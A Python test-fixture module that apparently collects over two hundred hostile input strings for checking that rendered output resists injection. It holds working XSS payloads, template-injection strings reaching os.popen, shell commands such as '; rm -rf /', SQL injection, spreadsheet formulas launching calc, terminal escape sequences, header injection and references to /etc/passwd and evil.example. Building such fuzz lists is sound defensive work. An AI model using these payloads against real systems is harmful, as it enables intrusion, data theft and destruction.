"""What a target, an author of probes or a user may write to break what is shown: more than two hundred strings."""

from __future__ import annotations

from collections.abc import Sequence
from itertools import product

TAGS = [
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</pre><script>alert(1)</script>",
    "</svg><script>alert(1)</script>",
    "</select><img src=x onerror=alert(1)>",
    "</option></datalist><b>",
    "</td></tr></table><h1>gone</h1>",
    "</main></body></html>",
    "<!--",
    "-->",
    "--!><script>1</script>",
    "<!-- --><img src=x>",
    "<![CDATA[<b>x</b>]]>",
    "]]><b>",
    "<?xml version='1.0'?>",
    "<!doctype html>",
    "<!ENTITY x SYSTEM 'file:///etc/passwd'>",
    "<plaintext>",
    "<xmp>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><b>x</b></template>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>*{display:none}</style>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=//evil.example>",
    "<embed src=//evil.example>",
    "<form action=//evil.example><input name=token>",
    "<button formaction=javascript:alert(1)>x",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg/onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:alert(1)'><text y=9>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x>#x'/></svg>",
    "<svg><foreignObject><body onload=alert(1)></foreignObject></svg>",
    "<svg><style>@import '//evil.example'</style></svg>",
    "<IMG SRC=x OnErRoR=alert(1)>",
    "<img/src='x'/onerror=alert(1)>",
    "<img src=x\nonerror=alert(1)>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<<script>alert(1)//<</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&#x3c;img src=x&#x3e;",
    "\\x3cscript\\x3e",
    "\\u003cscript\\u003e",
    "<\0script>alert(1)</script>",
    "<scr\0ipt>alert(1)</scr\0ipt>",
    "\ufeff<script>alert(1)</script>",
    "＜script＞alert(1)＜/script＞",
    "<script\u2028>alert(1)</script>",
]
ATTRIBUTES = [
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    '" autofocus onfocus=alert(1) x="',
    '" style="position:fixed;inset:0',
    "` onclick=alert(1) `",
    " onclick=alert(1) ",
    '"/><img src=x>',
    '">',
    "'>",
    '"',
    "'",
    "`",
    "\\",
    '\\"',
    "=",
    "/>",
    "&",
    "&amp;",
    "&quot;&gt;",
    "&#34;&#62;",
    "&NewLine;&Tab;",
    "&copy=1&lt=2",
    "\n\n\n",
    "\r\n",
    "\t",
]
ADDRESSES = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\nscript:alert(1)",
    " javascript:alert(1)",
    "\x01javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:msgbox(1)",
    "file:///etc/passwd",
    "blob:null/1",
    "//evil.example",
    "\\\\evil.example\\share",
    "/\\evil.example",
    "http:evil",
    "mailto:x?cc=all@example.org",
    "#main",
    "../../../../etc/passwd",
    "..%2f..%2fetc%2fpasswd",
    "?next=//evil.example",
]
TEMPLATES = [
    "{{7*7}}",
    "{{ 7*'7' }}",
    "{{ config }}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{% endfor %}",
    "{% include '/etc/passwd' %}",
    "{% raw %}",
    "{% endblock %}",
    "{%",
    "{#",
    "#}",
    "{{",
    "}}",
    "${{ secrets.token }}",
    "${{ 7 * 7 }}",
    "${{",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{0.__class__}",
    "%(x)s",
    "%s%n%x",
    "%",
    "$(id)",
    "`id`",
    "$HOME",
    "; rm -rf /",
    "| id",
    "&& id",
    "';--",
    "1' OR '1'='1",
    "'; DROP TABLE runs; --",
    "[red]x[/red]",
    "[link=https://evil.example]x[/link]",
    ":smile:",
    "[/]",
]
STYLES = [
    "}</style><script>alert(1)</script>",
    "} * { display: none } x {",
    "expression(alert(1))",
    "url(javascript:alert(1))",
    "url(//evil.example)",
    "@import '//evil.example'",
    "position:fixed;top:0",
    "\\3c script\\3e",
]
MARKS = (
    "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c\u200b\u200c\u200d\u2060\ufeff\u00ad\u034f"
    "\u180e\u115f\u3164\uffa0\u2800\U000e0041\U000e007f\u2028\u2029\u0085"
)
DIRECTIONS = [f"a{mark}gnp.exe" for mark in MARKS]
CONTROLS = [f"a{chr(code)}b" for code in (*range(9), *range(11, 32), 127, 0x80, 0x9B, 0x9D)]
TERMINAL = [
    "\x1b[2J",
    "\x1b[31mred\x1b[0m",
    "\x1b]0;owned\x07",
    "\x1b]8;;https://evil.example\x1b\\x\x1b]8;;\x1b\\",
    "\x1b]52;c;aWQ=\x07",
    "\x1bc",
    "\x1b[6n",
    "\x1bP0;1|17/ab\x1b\\",
    "\x9b31m",
    "\x07\x07",
    "a\b\b\bx",
    "good\rbad",
]
FORMULAS = [
    f"{sign}{rest}" for sign, rest in product("=+-@\t\r", ("cmd|' /C calc'!A0", 'HYPERLINK("//evil.example","x")'))
] + ["=1+1", "@SUM(1+9)*cmd", " =1+1", '"=1+1"', "-2+3", ";=1+1", "a,b", 'a"b', "a\nb,c", "\n=1+1"]
HEADERS = [
    "x\r\nSet-Cookie: a=b",
    "x\nBcc: all@example.org",
    "x\r\n\r\n<script>alert(1)</script>",
    "x\rX-Evil: 1",
    "=?utf-8?q?=0d=0aBcc:_all=40example.org?=",
    "\u560a\u560dSet-Cookie: a=b",
    "x\x0bX: 1",
    "HTTP/1.1 200 OK\r\n\r\n",
    ".\r\nQUIT",
    "From x",
    "boundary--",
    "a;filename=x.exe",
]
MARKUP = [
    "# heading",
    "[x](javascript:alert(1))",
    "![x](//evil.example/x.png)",
    "```\n</pre>",
    "| a | b |",
    "<@everyone>",
    "<!channel>",
    "<https://evil.example|https://good.example>",
    "@here",
    "*bold* _it_ ~st~",
    "\\n",
    "- [ ] x",
    "---",
    "<details>",
]
SCRIPTS = [  # halves of surrogate pairs are not among them: the engine and the forms let none in
    "Ω≈ç√∫˜µ≤≥÷",
    "表ポあA鷗ŒéＢ逍Üßªąñ丂㐀𠀀",
    "مرحبا بالعالم",
    "שלום עולם",
    "👩‍👩‍👧‍👦",
    "🏴󠁧󠁢󠁥󠁮󠁧󠁿",
    "Z̮̞̠͙͔ͅḀ̗̞͈̻̗Ḷ͙͎̯̹̞͓G̻O̭̗̮",
    "ﷺ" * 20,
    "𝓗𝓮𝓵𝓵𝓸",
    "\U0010ffff",
    "\ufffe",
    "NaN",
    "null",
    "undefined",
    "None",
    "true",
    "1e400",
    "0",
    "",
    " ",
    "\u00a0",
    "\u3000",
]
LONG = ["W" * 3000, "<b>" * 1000, "\u202e" * 400, "a " * 2000]
WORD = "M" * 1_000_000

STRINGS = tuple(
    dict.fromkeys(
        TAGS
        + ATTRIBUTES
        + ADDRESSES
        + TEMPLATES
        + STYLES
        + DIRECTIONS
        + CONTROLS
        + TERMINAL
        + FORMULAS
        + HEADERS
        + MARKUP
        + SCRIPTS
        + LONG
    )
)


def harmless(texts: Sequence[str]) -> list[str]:
    """A word in place of each, every one another, as equal ones may be shown once; nothing stays nothing."""
    return [f"harmless{number:04d}" if text else "" for number, text in enumerate(texts)]


HARMLESS = "harmless"
